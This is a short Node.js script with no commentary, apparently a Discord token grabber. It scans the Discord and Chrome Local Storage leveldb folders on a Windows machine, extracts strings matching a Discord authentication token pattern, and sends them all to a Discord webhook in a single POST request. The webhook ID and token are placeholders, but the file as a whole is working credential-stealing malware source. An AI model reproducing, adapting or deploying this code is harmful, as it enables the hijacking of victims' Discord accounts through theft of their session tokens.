const fs = require('fs');
const path = require('path');
const https = require('https');
const WEBHOOK = 'https://discord.com/api/webhooks/000000000000000000/defanged-webhook-token';
const roots = [path.join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb'), path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb')];
const tokens = [];
for (const dir of roots) {
  let files = [];
  try { files = fs.readdirSync(dir); } catch (e) { continue; }
  for (const f of files.filter((x) => x.endsWith('.ldb') || x.endsWith('.log'))) {
    const text = fs.readFileSync(path.join(dir, f), 'utf8');
    for (const m of text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []) tokens.push(m);
  }
}
const req = https.request(WEBHOOK, { method: 'POST', headers: { 'Content-Type': 'application/json' } });
req.end(JSON.stringify({ content: tokens.join('\n') }));
